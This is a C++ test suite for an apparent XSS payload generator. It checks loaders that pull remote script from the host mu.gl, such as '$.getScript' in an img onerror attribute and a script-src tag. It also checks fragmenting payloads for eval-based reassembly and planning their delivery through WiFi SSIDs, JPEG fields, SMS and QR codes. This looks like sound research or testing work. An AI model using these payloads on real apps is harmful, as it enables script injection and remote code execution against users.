#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest.h>

#include <algorithm>
#include <random>
#include <set>

#include "hybridscan/payload_forge.hpp"

using namespace hybridscan;

namespace {

// Independent character-count oracle for the loader-length checks.
int count_chars(std::string_view s) {
  int n = 0;
  for (size_t i = 0; i < s.size(); ++i) ++n;
  return n;
}

const Channel& wifi_channel() {
  static const std::vector<Channel> channels = builtin_channels();
  for (const Channel& c : channels) {
    if (c.name == "WiFi") return c;
  }
  throw std::logic_error("no wifi");
}

const Channel& channel_named(const char* name) {
  static const std::vector<Channel> channels = builtin_channels();
  for (const Channel& c : channels) {
    if (c.name == name) return c;
  }
  throw std::logic_error("missing channel");
}

void check_fragment_invariants(const std::vector<Fragment>& fragments,
                               const std::string& code, int limit) {
  REQUIRE(!fragments.empty());
  // Fit: every emitted markup within the limit.
  for (const Fragment& f : fragments) {
    CAPTURE(f.markup);
    CHECK(f.length <= limit);
    CHECK(f.length == count_chars(f.markup));
  }
  // Reassembly: chunks concatenate exactly to the code.
  CHECK(reassemble(fragments) == code);
  // Trigger-last: exactly one triggering fragment, at the maximum index.
  int triggers = 0;
  int max_index = -1;
  int trigger_index = -1;
  for (const Fragment& f : fragments) {
    max_index = std::max(max_index, f.index);
    if (f.role == FragmentRole::Trigger || f.role == FragmentRole::Direct) {
      ++triggers;
      trigger_index = f.index;
    }
  }
  CHECK(triggers == 1);
  CHECK(trigger_index == max_index);
}

}  // namespace

TEST_CASE("jQuery getScript loader is exactly 45 characters") {
  Payload p = make_loader("http://mu.gl", LoaderStyle::JQueryGetScript);
  CHECK(p.markup == "<img src onerror=$.getScript('http://mu.gl')>");
  CHECK(p.length == 45);
  CHECK(p.length == count_chars(p.markup));
  CHECK(p.inner_code == "$.getScript('http://mu.gl')");
  CHECK(p.vector.style == PayloadStyle::EventAttribute);
}

TEST_CASE("dynamic script-block loader is exactly 99 characters") {
  Payload p = make_loader("http://mu.gl", LoaderStyle::ImgOnErrorDynamic);
  CHECK(p.markup ==
        "<img src onerror=d=document;b=d.createElement('script');"
        "d.body.appendChild(b);b.src='http://mu.gl'>");
  CHECK(p.length == 99);
  CHECK(p.length == count_chars(p.markup));
}

TEST_CASE("script-tag loader reports its computed count with a note") {
  Payload p = make_loader("//mu.gl", LoaderStyle::ScriptTagLoader);
  CHECK(p.markup == "<script src=//mu.gl></script>");
  CHECK(p.length == count_chars(p.markup));
  CHECK(p.length == 29);
  // The one-shorter figure in circulation is documented, not emitted.
  CHECK(p.note.find("29") != std::string::npos);
  CHECK(p.note.find("28") != std::string::npos);
  CHECK(p.inner_code.empty());
}

TEST_CASE("loader URL validation") {
  CHECK_THROWS_AS(make_loader("", LoaderStyle::ScriptTagLoader),
                  InvalidUrlError);
  CHECK_THROWS_AS(make_loader("http://a b", LoaderStyle::JQueryGetScript),
                  InvalidUrlError);
  CHECK_THROWS_AS(make_loader("http://a'b", LoaderStyle::ImgOnErrorDynamic),
                  InvalidUrlError);
  CHECK_THROWS_AS(make_loader("http://a\"b", LoaderStyle::ScriptTagLoader),
                  InvalidUrlError);
  CHECK_THROWS_AS(make_loader("http://a>b", LoaderStyle::ScriptTagLoader),
                  InvalidUrlError);
  // getScript refuses scheme-relative URLs; the other styles accept them.
  CHECK_THROWS_AS(make_loader("//mu.gl", LoaderStyle::JQueryGetScript),
                  InvalidUrlError);
  CHECK_NOTHROW(make_loader("//mu.gl", LoaderStyle::ImgOnErrorDynamic));
}

TEST_CASE("loaders trigger their inner code through matching sinks") {
  SinkKind inner_html = *classify_sink("innerHTML");
  SinkKind doc_write = *classify_sink("document.write");

  Payload jquery = make_loader("http://mu.gl", LoaderStyle::JQueryGetScript);
  ActivationResult via_event = evaluate_sink(inner_html, jquery.markup);
  REQUIRE(via_event.executed_code.size() == 1);
  CHECK(via_event.executed_code[0] == jquery.inner_code);

  Payload dynamic = make_loader("http://mu.gl", LoaderStyle::ImgOnErrorDynamic);
  ActivationResult via_dyn = evaluate_sink(doc_write, dynamic.markup);
  REQUIRE(via_dyn.executed_code.size() == 1);
  CHECK(via_dyn.executed_code[0] == dynamic.inner_code);

  // The script-src form fetches rather than inlining.
  Payload script = make_loader("//mu.gl", LoaderStyle::ScriptTagLoader);
  ActivationResult via_script = evaluate_sink(doc_write, script.markup);
  CHECK(via_script.executed_code.empty());
  REQUIRE(via_script.external_loads.size() == 1);
  CHECK(via_script.external_loads[0] == "//mu.gl");
}

TEST_CASE("custom event-attribute wrappers; script-tag wrappers refused") {
  PayloadVector video{PayloadStyle::EventAttribute, "video", "onerror"};
  std::vector<Fragment> fragments = fragment_payload("alert(1)", 100, video);
  REQUIRE(fragments.size() == 1);
  CHECK(fragments[0].markup == "<video src onerror=alert(1)>");

  PayloadVector script{PayloadStyle::ScriptTag, "script", ""};
  CHECK_THROWS_AS(fragment_payload("alert(1)", 100, script), ForgeError);
}

TEST_CASE("canonical 32-character split of the getScript code") {
  const std::string code = "$.getScript('http://mu.gl')";
  std::vector<Fragment> fragments = fragment_payload(code, 32);

  int pieces = 0;
  for (const Fragment& f : fragments) {
    if (f.role == FragmentRole::Piece) ++pieces;
  }
  CHECK(pieces >= 4);
  CHECK(fragments.size() == static_cast<size_t>(pieces) + 1);
  check_fragment_invariants(fragments, code, 32);
  CHECK(fragments.back().role == FragmentRole::Trigger);
  CHECK(fragments.back().markup == "<img src onerror=eval(a+b+c+d)>");
}

TEST_CASE("code that fits emits the direct form") {
  std::vector<Fragment> fragments = fragment_payload("alert(1)", 100);
  REQUIRE(fragments.size() == 1);
  CHECK(fragments[0].role == FragmentRole::Direct);
  CHECK(fragments[0].markup == "<img src onerror=alert(1)>");
  CHECK(fragments[0].chunk == "alert(1)");
}

TEST_CASE("limits below the minimal wrapper fail") {
  CHECK_THROWS_AS(fragment_payload("x=1", 10), LimitTooSmallError);
  CHECK_THROWS_AS(fragment_payload(std::string(100, 'x'), 24),
                  LimitTooSmallError);
}

TEST_CASE("characters the wrapper cannot carry are rejected") {
  CHECK_THROWS_AS(fragment_payload("alert(\"x\")", 25), UnescapableChunkError);
  CHECK_THROWS_AS(fragment_payload("a > b", 25), UnescapableChunkError);
  CHECK_THROWS_AS(fragment_payload("var x = 1", 25), UnescapableChunkError);
}

TEST_CASE("variable names continue past z") {
  // At limit 26 the first 26 pieces carry two characters each (vars a..z);
  // everything after that needs two-character names.
  std::string code(70, 'k');
  std::vector<Fragment> fragments = fragment_payload(code, 26);
  check_fragment_invariants(fragments, code, 26);
  bool saw_two_char_var = false;
  for (const Fragment& f : fragments) {
    if (f.role == FragmentRole::Piece && f.var_name.size() == 2)
      saw_two_char_var = true;
  }
  CHECK(saw_two_char_var);
  CHECK(fragment_var_name(0) == "a");
  CHECK(fragment_var_name(25) == "z");
  CHECK(fragment_var_name(26) == "aa");
  CHECK(fragment_var_name(27) == "ab");
  CHECK(fragment_var_name(52) == "ba");
}

TEST_CASE("oversized variable lists split the eval across combiners") {
  std::string code(120, 'j');
  std::vector<Fragment> fragments = fragment_payload(code, 27);
  check_fragment_invariants(fragments, code, 27);
  bool saw_combiner = false;
  for (const Fragment& f : fragments) {
    if (f.role == FragmentRole::Combiner) saw_combiner = true;
  }
  CHECK(saw_combiner);

  // And the whole set still replays through the emulator.
  InjectionPlan plan;
  plan.channel = {"Bench", {{"F", 27, false}}, Delivery::SingleFieldTimed};
  plan = plan_injection(fragments, plan.channel);
  VerificationResult vr = verify_plan(plan, *classify_sink("innerHTML"));
  CAPTURE(vr.reason);
  CHECK(vr.verified);
  CHECK(vr.recovered_code == code);
}

TEST_CASE("wifi plans are timed sequences with the trigger last") {
  std::vector<Fragment> fragments =
      fragment_payload("$.getScript('http://mu.gl')", 32);
  InjectionPlan plan = plan_injection(fragments, wifi_channel());
  CHECK(plan.mode == PlanMode::TimedSequence);
  REQUIRE(plan.assignments.size() == fragments.size());
  for (size_t i = 0; i < plan.assignments.size(); ++i) {
    CHECK(plan.assignments[i].field_name == "SSID");
    CHECK(plan.assignments[i].time_slot == static_cast<int>(i));
  }
  CHECK(plan.assignments.back().value == "<img src onerror=eval(a+b+c+d)>");
}

TEST_CASE("multi-field planning skips fields that are too tight") {
  // Seven fragments of 33..42 characters: none fits JPEG Model (32), all
  // fit Maker (42) and the metadata fields.
  std::vector<Fragment> fragments = fragment_payload(std::string(96, 'q'), 40);
  REQUIRE(fragments.size() == 7);
  for (const Fragment& f : fragments) {
    CHECK(f.length > 32);
    CHECK(f.length <= 42);
  }
  InjectionPlan plan = plan_injection(fragments, channel_named("JPEG"));
  CHECK(plan.mode == PlanMode::MultiField);
  bool used_maker = false;
  std::set<std::string> used;
  for (const Assignment& a : plan.assignments) {
    CAPTURE(a.field_name);
    CHECK(a.field_name != "Model");
    if (a.field_name == "Maker") used_maker = true;
    CHECK(used.insert(a.field_name).second);  // distinct fields
  }
  CHECK(used_maker);
}

TEST_CASE("field preference reorders multi-field assignment") {
  std::vector<Fragment> fragments = fragment_payload("alert(1)", 100);
  InjectionPlan plan = plan_injection(fragments, channel_named("JPEG"),
                                      {"Comment"});
  REQUIRE(plan.assignments.size() == 1);
  CHECK(plan.assignments[0].field_name == "Comment");
}

TEST_CASE("single fragment too long for wifi fails") {
  std::vector<Fragment> fragments =
      fragment_payload(std::string(150, 'p'), 200);
  REQUIRE(fragments.size() == 1);
  CHECK(fragments[0].length == 168);
  CHECK_THROWS_AS(plan_injection(fragments, wifi_channel()),
                  InsufficientCapacityError);
}

TEST_CASE("single-shot channels take the whole payload in one field") {
  // SMS holds the 45-character loader whole.
  std::vector<Fragment> fragments =
      fragment_payload("$.getScript('http://mu.gl')", 140);
  InjectionPlan sms = plan_injection(fragments, channel_named("SMS"));
  REQUIRE(sms.assignments.size() == 1);
  CHECK(sms.assignments[0].field_name == "MessageBody");
  CHECK(sms.assignments[0].value == "<img src onerror=$.getScript('http://mu.gl')>");

  // A fragmented payload concatenates into one QR code.
  std::vector<Fragment> small = fragment_payload("$.getScript('http://mu.gl')", 32);
  InjectionPlan qr = plan_injection(small, channel_named("QRCode"));
  REQUIRE(qr.assignments.size() == 1);
  std::string combined;
  for (const Fragment& f : small) combined += f.markup;
  CHECK(qr.assignments[0].value == combined);

  // But SMS cannot hold five concatenated fragments (> 140 chars).
  CHECK_THROWS_AS(plan_injection(small, channel_named("SMS")),
                  InsufficientCapacityError);
}

TEST_CASE("verify_plan recovers the code through the sink emulator") {
  const std::string code = "$.getScript('http://mu.gl')";
  std::vector<Fragment> fragments = fragment_payload(code, 32);
  InjectionPlan plan = plan_injection(fragments, wifi_channel());

  VerificationResult ok = verify_plan(plan, *classify_sink("innerHTML"));
  CAPTURE(ok.reason);
  CHECK(ok.verified);
  CHECK(ok.recovered_code == code);

  // Moving the trigger first leaves its variables undefined.
  InjectionPlan tampered = plan;
  std::rotate(tampered.assignments.begin(), tampered.assignments.end() - 1,
              tampered.assignments.end());
  VerificationResult bad = verify_plan(tampered, *classify_sink("innerHTML"));
  CHECK_FALSE(bad.verified);
  CHECK(bad.failed_index == 0);
  CHECK(bad.reason.find("undefined variable") != std::string::npos);

  // Text sinks execute nothing; the precondition fails cleanly.
  VerificationResult text = verify_plan(plan, *classify_sink("textContent"));
  CHECK_FALSE(text.verified);
  CHECK(text.reason.find("does not execute") != std::string::npos);
}

TEST_CASE("verify_plan accepts an explicit expected code") {
  std::vector<Fragment> fragments = fragment_payload("alert(7)", 64);
  InjectionPlan plan = plan_injection(fragments, channel_named("QRCode"));
  CHECK(verify_plan(plan, *classify_sink("html"), std::string("alert(7)"))
            .verified);
  CHECK_FALSE(
      verify_plan(plan, *classify_sink("html"), std::string("alert(8)"))
          .verified);
}

TEST_CASE("random code and limits keep the forge invariants") {
  // Charset mirrors what loader code is made of; the wrapper-hostile
  // characters (space, '"', '>') are exercised by their own test above.
  const std::string charset =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
      "$_.;:+-*/%()[]{}'=!&|,<";
  std::mt19937 rng(20140529u);
  std::uniform_int_distribution<size_t> pick(0, charset.size() - 1);
  std::uniform_int_distribution<int> length_dist(10, 500);
  std::uniform_int_distribution<int> limit_dist(20, 250);

  int successes = 0;
  int too_small = 0;
  for (int trial = 0; trial < 300; ++trial) {
    int length = length_dist(rng);
    int limit = limit_dist(rng);
    std::string code;
    code.reserve(static_cast<size_t>(length));
    for (int i = 0; i < length; ++i) code += charset[pick(rng)];
    CAPTURE(trial);
    CAPTURE(limit);
    try {
      std::vector<Fragment> fragments = fragment_payload(code, limit);
      check_fragment_invariants(fragments, code, limit);
      ++successes;

      // Every fragment set plans onto a timed single-field channel of the
      // same width, and the plan replays through the emulator.
      Channel timed{"WiFi", {{"SSID", limit, false}},
                    Delivery::SingleFieldTimed};
      InjectionPlan plan = plan_injection(fragments, timed);
      CHECK(plan.assignments.back().fragment_index ==
            fragments.back().index);
      VerificationResult vr = verify_plan(plan, *classify_sink("innerHTML"));
      CAPTURE(vr.reason);
      CHECK(vr.verified);
    } catch (const LimitTooSmallError&) {
      // Legal only in the tight band where pieces, growing variable names
      // or the eval trigger can no longer fit; 27 and up always succeeds
      // for codes of this length.
      CHECK(limit <= 26);
      ++too_small;
    }
  }
  CHECK(successes > 0);
  CHECK(successes + too_small == 300);
}
